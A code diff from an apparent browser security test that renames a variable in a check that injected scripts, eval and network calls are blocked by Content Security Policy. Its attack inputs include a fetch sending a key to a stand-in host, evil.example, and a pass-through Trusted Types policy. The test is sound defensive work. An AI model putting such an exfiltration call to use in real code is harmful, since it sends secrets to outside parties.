@@ -275,7 +275,7 @@ test('T109 scripts, eval, markup and workers that are slipped into the frame do 
         Reflect.get(window, 'trustedTypes').createPolicy('evil', { createHTML: (x: string) => x }),
       network: () => fetch('https://evil.example/?key=1'),
     }
-    const found: Record<string, string> = {}
+    const results: Record<string, string> = {}
     // The debugger's own call may do what a script may not: the attempts begin after it.
     await new Promise((done) => setTimeout(done, 0))
     for (const [name, attempt] of Object.entries(attempts)) {
@@ -290,13 +290,13 @@ test('T109 scripts, eval, markup and workers that are slipped into the frame do 
       const isReported = violations.length > before
       const isRun = harmed()
       Reflect.deleteProperty(window, 'harmed')
-      found[name] = isRun ? 'ran' : isThrown || isReported ? 'blocked' : 'unnoticed'
+      results[name] = isRun ? 'ran' : isThrown || isReported ? 'blocked' : 'unnoticed'
     }
-    return { found, directives: [...new Set(violations)] }
+    return { results, directives: [...new Set(violations)] }
   })
-  const { directives = [], found = {} } = outcomes ?? {}
-  expect(Object.entries(found).filter(([, outcome]) => outcome !== 'blocked')).toEqual([])
-  expect(Object.keys(found)).toHaveLength(17)
+  const { directives = [], results = {} } = outcomes ?? {}
+  expect(Object.entries(results).filter(([, outcome]) => outcome !== 'blocked')).toEqual([])
+  expect(Object.keys(results)).toHaveLength(17)
   expect(directives).toEqual(
     expect.arrayContaining(['script-src-elem', 'require-trusted-types-for', 'connect-src']),
   )
